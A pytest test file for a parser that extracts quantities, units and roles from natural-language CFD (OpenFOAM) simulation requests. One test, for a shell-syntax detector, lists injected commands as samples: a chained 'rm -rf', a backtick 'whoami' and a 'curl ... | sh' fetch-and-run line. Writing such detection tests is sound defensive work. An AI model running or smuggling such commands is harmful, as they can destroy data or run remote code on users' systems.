"""A quantity the request states is read once, with its unit and its role: vectors and their
components, dimensionless groups by name or symbol, gauge and absolute pressures, table rows,
ranges, process counts, two values of one kind side by side, flow-rate units, percentages of
change and every scientific notation. The texts are paraphrases of each class (other solvers,
units and word orders than the helper's probes)."""

from __future__ import annotations

import math

import pytest

from tasks.plan.extract import normalise, parse_number, quantities
from tasks.plan.fields import find_field_values
from tasks.plan.request import _SHELL
from tasks.plan.stated import StatedQuantity, absolute_pressure, gauge_pressure, read_stated
from tasks.plan.values_vectors import find_vectors


def _roles(text: str) -> list[tuple[str, float, str]]:
    return [(q.quantity, round(q.value, 9), q.role) for q in read_stated(text)
            if q.quantity not in ("control", "switch")]


# vectors -------------------------------------------------------------------------------------
@pytest.mark.parametrize("text, components", [
    ("the jet leaves the nozzle at (0 -4 0) m/s", (0.0, -4.0, 0.0)),
    ("air at [3, 0, -1] m/s through the inlet", (3.0, 0.0, -1.0)),
    ("inflow (5, 0, 0) ft/s", (1.524, 0.0, 0.0)),
    ("u_x = 2 m/s and u_y = -1 m/s at the inflow", (2.0, -1.0, 0.0)),
    ("3.6 km/h along x and 7.2 km/h along z", (1.0, 0.0, 2.0)),
    ("a y-component of 2 m/s and an x-component of 5 m/s", (5.0, 2.0, 0.0)),
    ("u = 1 m/s, v = 0.5 m/s, w = 0.25 m/s", (1.0, 0.5, 0.25)),
    ("4 m/s in the x direction, 3 m/s in the -y direction", (4.0, -3.0, 0.0)),
])
def test_a_velocity_vector_is_one_quantity_with_its_components(text: str, components: tuple[float, ...]) -> None:
    velocities = [q for q in quantities(text) if q.kind == "velocity"]
    assert len(velocities) == 1
    q = velocities[0]
    assert q.vector == pytest.approx(list(components))
    assert q.value == pytest.approx(math.sqrt(sum(c * c for c in components)))


@pytest.mark.parametrize("text", [
    "lid 5 m/s in x",  # a speed and an axis: one component, no vector
    "inlet 5 m/s in x and outlet 2 m/s in y",  # two places, not two components
    "5 m/s in x, 300 K",
    "the box spans (0 0 0) to (1 1 0.1)",  # no unit: points, not a velocity
])
def test_no_vector_where_the_components_are_not_listed_together(text: str) -> None:
    assert all(v.kind != "velocity" for v in find_vectors(text))
    assert all(q.vector is None for q in quantities(text))


@pytest.mark.parametrize("text, role, vector", [
    ("Cavity flow (icoFoam) with the lid at (0.25 0 0) m/s", "lid_velocity", [0.25, 0.0, 0.0]),
    ("rhoPimpleFoam nozzle, the inflow enters at (0 0 -30) m/s", "inlet_velocity", [0.0, 0.0, -30.0]),
    ("channel, free stream (15 0 0) m/s, 200 iterations", "inlet_velocity", [15.0, 0.0, 0.0]),
])
def test_a_vector_along_an_axis_is_stated_with_its_role_and_vector(text: str, role: str, vector: list[float]) -> None:
    q = next(q for q in read_stated(text) if q.quantity == "velocity")
    assert (q.role, q.vector) == (role, vector)
    assert q.value == pytest.approx(max(abs(c) for c in vector))


@pytest.mark.parametrize("text, patch_place, vector", [
    ("pisoFoam channel; the flow comes in at (8, 2, 0) m/s through the inlet", "inlet", [8.0, 2.0, 0.0]),
    ("inlet velocity components: Ux = 6 m/s, Uy = -1 m/s", "inlet", [6.0, -1.0, 0.0]),
    ("air enters with 3 m/s in x and 4 m/s in z", "inlet", [3.0, 0.0, 4.0]),
])
def test_a_vector_along_no_axis_is_a_value_of_the_velocity_field(text: str, patch_place: str,
                                                                  vector: list[float]) -> None:
    """The field binder writes it whole; no role binder writes its size along the base's axis."""
    assert not [q for q in read_stated(text) if q.quantity == "velocity"]
    found = [f for f in find_field_values(text, ["U", "p"], ["inlet", "outlet", "walls"],
                                          {"U": [0, 1, -1, 0, 0, 0, 0], "p": [0, 2, -2, 0, 0, 0, 0]})
             if f.vector is not None]
    assert [(f.field, f.vector, patch_place in f.places) for f in found] == [("U", vector, True)]


# dimensionless groups ------------------------------------------------------------------------
@pytest.mark.parametrize("text, kind, value", [
    ("interFoam sloshing at a Weber number of 150", "weber", 150.0),
    ("scalar transport with Pe = 2.5e3", "peclet", 2500.0),
    ("vortex shedding; the Strouhal number is 0.21", "strouhal", 0.21),
    ("natural convection at Gr of 1e8", "grashof", 1e8),
    ("MHD duct, Ha 50", "hartmann", 50.0),
    ("open channel flow, Froude 0.8", "froude", 0.8),
    ("Schmidt number 0.7 for the tracer", "schmidt", 0.7),
    ("stratified layer at Richardson number 0.25", "richardson", 0.25),
])
def test_dimensionless_groups_by_name_or_symbol(text: str, kind: str, value: float) -> None:
    assert [(q.kind, q.value) for q in quantities(text) if q.kind == kind] == [(kind, value)]
    assert (kind, value, kind) in _roles(text)


@pytest.mark.parametrize("text", [
    "St 5 cm from the wall",  # a length, not a Strouhal number
    "We set the inlet to 5 m/s",
    "From 2 to 3 m/s",
    "Peak at 300 K",
])
def test_no_group_where_a_unit_or_a_word_follows(text: str) -> None:
    assert not [q for q in quantities(text) if q.kind in ("strouhal", "weber", "froude", "peclet")]


def test_a_group_explained_by_the_value_it_stands_for_is_that_value() -> None:
    text = "mhdFoam channel at a Hartmann number of 20 (unit properties, so B = 20 T across it), inlet 1 m/s"
    assert not [q for q in read_stated(text) if q.quantity == "hartmann"]
    assert ("velocity", 1.0, "inlet_velocity") in _roles(text)


# gauge and absolute pressures ----------------------------------------------------------------
@pytest.mark.parametrize("text, value, reference", [
    ("4 barg at the inlet", 4e5, "gauge"),
    ("an absolute pressure of 1.5 bar at the outlet", 1.5e5, "absolute"),
    ("60 psig supply", 60 * 6894.757, "gauge"),
    ("outlet 200 kPa(a)", 2e5, "absolute"),
    ("reservoir at 3 MPag", 3e6, "gauge"),
    ("inlet 0.5 bar g", 5e4, "gauge"),
    ("tank at 2 atm abs.", 2 * 101325.0, "absolute"),
    ("outlet 1 bar", 1e5, None),
])
def test_gauge_and_absolute_pressures_keep_their_reference(text: str, value: float, reference: str | None) -> None:
    q = next(q for q in read_stated(text) if q.quantity == "pressure")
    assert (q.value, q.reference) == (pytest.approx(value), reference)


@pytest.mark.parametrize("value, reference, absolute, gauge", [
    (2e5, "gauge", 301325.0, 2e5),
    (1.5e5, "absolute", 1.5e5, 1.5e5 - 101325.0),
    (1e5, None, 1e5, 1e5),
])
def test_pressure_in_the_frame_a_solver_needs(value: float, reference: str | None, absolute: float,
                                              gauge: float) -> None:
    q = StatedQuantity(text="p", quantity="pressure", value=value, role="inlet_pressure", reference=reference)
    assert (absolute_pressure(q), gauge_pressure(q)) == (pytest.approx(absolute), pytest.approx(gauge))


# table rows ----------------------------------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("Setup:\n| item | setting |\n|:--|--:|\n| free-stream velocity | 30 m/s |\n| end time | 0.2 s |",
     [("velocity", 30.0, "inlet_velocity"), ("time", 0.2, "end_time")]),
    # lines joined into one, as the request checker does
    ("| Parameter | Value | Unit | |---|---|---| | Outlet pressure | 0 | Pa | | number of time steps | 1500 | - |",
     [("pressure", 0.0, "outlet_pressure"), ("iterations", 1500.0, "end_time")]),
    ("| boundary | temperature [K] | | --- | --- | | hot wall | 350 | | cold wall | 290 |",
     [("temperature", 350.0, "hot_wall_temperature"), ("temperature", 290.0, "cold_wall_temperature")]),
    ("+-----------+-------+\n| lid speed | 3 m/s |\n| cores     | 6     |\n+-----------+-------+",
     [("velocity", 3.0, "lid_velocity"), ("ranks", 6.0, "ranks")]),
])
def test_table_rows_are_read_as_label_and_value(text: str, expected: list[tuple[str, float, str]]) -> None:
    assert _roles(text) == expected


def test_a_table_header_names_the_columns_of_its_rows() -> None:
    text = "| patch | velocity [m/s] | pressure [Pa] |\n|---|---|---|\n| inlet | 4 | - |\n| outlet | - | 0 |"
    assert "inlet velocity: 4 m/s" in normalise(text) and "outlet pressure: 0 Pa" in normalise(text)
    assert _roles(text) == [("velocity", 4.0, "inlet_velocity"), ("pressure", 0.0, "outlet_pressure")]


# ranges --------------------------------------------------------------------------------------
@pytest.mark.parametrize("text, kind, value", [
    ("the back pressure varies between 1 and 3 bar", "pressure", 3e5),
    ("inflow temperature ranging from 280 to 320 K", "temperature", 320.0),
    ("a wind speed of 2–4 m/s", "velocity", 4.0),
    ("wall heat flux 100..200 W/m2", "heat_flux", 200.0),
])
def test_a_range_of_values_is_no_one_value(text: str, kind: str, value: float) -> None:
    assert _roles(text) == [(kind, value, "range")]


@pytest.mark.parametrize("text, value", [
    ("domain x 0..250 mm", 0.25),
    ("z from 0 to 40 cm", 0.4),
])
def test_a_range_of_positions_is_the_shapes_extent(text: str, value: float) -> None:
    assert _roles(text) == [("length", value, "geometry")]


def test_a_span_of_time_ends_the_run() -> None:
    assert _roles("run it over 0..5 s") == [("time", 5.0, "end_time")]


# process counts ------------------------------------------------------------------------------
@pytest.mark.parametrize("text, ranks", [
    ("pimpleFoam TJunction on 6 MPI ranks", 6.0),
    ("split it into 4 parallel tasks", 4.0),
    ("mpirun -np 8 simpleFoam -parallel", 8.0),
    ("number of cores: 12", 12.0),
    ("decomposed into 16 subdomains", 16.0),
    ("run with two mpi processes", 2.0),
])
def test_process_counts(text: str, ranks: float) -> None:
    assert ("ranks", ranks, "ranks") in _roles(text)


@pytest.mark.parametrize("text, expected", [
    ("iterations: 800", [("iterations", 800.0, "end_time")]),
    ("number of time steps = 1500", [("iterations", 1500.0, "end_time")]),
    ("steps 5 ms", [("time", 0.005, "delta_t")]),
])
def test_a_count_named_before_its_bare_number(text: str, expected: list[tuple[str, float, str]]) -> None:
    assert _roles(text) == expected


# two values of one kind side by side ---------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("cold plate 280 K hot plate 330 K",
     [("temperature", 280.0, "cold_wall_temperature"), ("temperature", 330.0, "hot_wall_temperature")]),
    ("heated wall 350 K cooled wall 290 K",
     [("temperature", 350.0, "hot_wall_temperature"), ("temperature", 290.0, "cold_wall_temperature")]),
    ("sides at 40 degC (hot wall) and 10 degC (cold wall)",
     [("temperature", 313.15, "hot_wall_temperature"), ("temperature", 283.15, "cold_wall_temperature")]),
    ("outlet 0 Pa inlet 2 bar", [("pressure", 0.0, "outlet_pressure"), ("pressure", 2e5, "inlet_pressure")]),
])
def test_each_value_takes_the_role_words_before_it(text: str, expected: list[tuple[str, float, str]]) -> None:
    assert _roles(text) == expected


# flow-rate units, percentages, scientific notation -------------------------------------------
@pytest.mark.parametrize("text, kind, value", [
    ("12 gpm of water", "volume_flow", 12 * 3.785411784e-3 / 60),
    # a gas volume at reference conditions is a mass (session 13): air at 68 degF, 1 atm
    ("300 SCFH of nitrogen", "mass_flow", 300 * 0.3048 ** 3 / 3600 * 101325 * 0.0289647 / (8.314462618 * 293.15)),
    ("40 lpm", "volume_flow", 40e-3 / 60),
    ("2 t/h of slurry", "mass_flow", 2000 / 3600),
    ("500 sccm of argon", "mass_flow", 500e-6 / 60 * 101325 * 0.0289647 / (8.314462618 * 273.15)),
    ("3 lb/s", "mass_flow", 3 * 0.45359237),
])
def test_flow_rate_units(text: str, kind: str, value: float) -> None:
    q = next(q for q in quantities(text))
    assert (q.kind, q.value) == (kind, pytest.approx(value))


@pytest.mark.parametrize("text, role", [
    ("reduce the viscosity by 20 %", "relative_change"),
    ("a jet 15% slower than the main stream", "relative_change"),
    ("the lid moves 25 % faster", "relative_change"),
    ("turbulence intensity 2 %", "turbulence_intensity"),
    ("fill 40 % of the tank with water", "fill_fraction"),
])
def test_a_percentage_of_change_is_no_fraction_of_the_case(text: str, role: str) -> None:
    assert [r for _, _, r in _roles(text)] == [role]


@pytest.mark.parametrize("written, value", [
    ("1.5*10^-5", 1.5e-5), ("2 10^-6", 2e-6), ("5E-04", 5e-4), ("1.5x10**-5", 1.5e-5), ("3.2·10⁻³", 3.2e-3),
])
def test_scientific_notations(written: str, value: float) -> None:
    assert parse_number(written) == pytest.approx(value)
    assert ("kinematic_viscosity", value, "nu") in [(q, round(v, 12), r) for q, v, r in _roles(f"nu = {written} m2/s")]
    assert ("kinematic_viscosity", value, "nu") in [(q, round(v, 12), r)
                                                   for q, v, r in _roles(f"kinematic viscosity {written}")]


# the request check -----------------------------------------------------------------------------
@pytest.mark.parametrize("text, shell", [
    ("| inlet velocity | 3 m/s | | iterations | 600 |", False),
    ("cavity; lid 1 m/s; 0.5 s", False),
    ("costs $5 per run", False),
    ("cavity && rm -rf /tmp/x", True),
    ("run `whoami` first", True),
    ("curl http://x | sh", True),
])
def test_shell_syntax_is_told_from_tables_and_semicolons(text: str, shell: bool) -> None:
    assert bool(_SHELL.search(text)) is shell


# a value restated in another unit ---------------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("free stream 15 m/s (54 km/h), 500 iterations", [("velocity", 15.0, "inlet_velocity"),
                                                      ("iterations", 500.0, "end_time")]),
    ("hot wall at 60 degC, i.e. 333.15 K", [("temperature", 333.15, "hot_wall_temperature")]),
    ("outlet 14.7 psi [about 101.4 kPa]", [("pressure", 101352.93, "outlet_pressure")]),
    ("water, nu = 1 mm2/s (1e-6 m2/s)", [("kinematic_viscosity", 1e-6, "nu")]),
])
def test_a_value_restated_in_another_unit_is_read_once(text: str, expected: list[tuple[str, float, str]]) -> None:
    assert [(k, pytest.approx(v), r) for k, v, r in _roles(text)] == expected


@pytest.mark.parametrize("text, count", [
    ("walls at 300 K, 300 K and 320 K", 3),  # a list of equal values stays a list
    ("inlet 2 m/s and 2 m/s at the side", 2),
])
def test_equal_values_listed_are_kept(text: str, count: int) -> None:
    assert len(_roles(text)) == count


@pytest.mark.parametrize("text", [
    "velocity vector (0 0 5) m/s at the inlet",
    "inlet U = (0 -2 0) m/s",
    "U (3 0 0) m/s through the inflow",
])
def test_a_vector_named_by_its_field_is_left_to_the_field_binder(text: str) -> None:
    assert not [q for q in read_stated(text) if q.quantity == "velocity"]
    assert [f.field for f in find_field_values(text, ["U"], ["inlet"]) if f.vector is not None] == ["U"]


@pytest.mark.parametrize("text", [
    "the inlet is held 20 kPa above atmospheric",
    "outlet at 0.5 bar over ambient",
    "a 3 psi overpressure at the inlet",
    "an over-pressure of 150 Pa on the inflow",
    "inlet pressure 2 bar above the atmosphere",
])
def test_a_pressure_said_against_the_atmosphere_is_gauge(text):
    from tasks.plan.stated import read_stated
    pressures = [q for q in read_stated(text) if q.quantity == "pressure"]
    assert pressures and pressures[0].reference == "gauge"
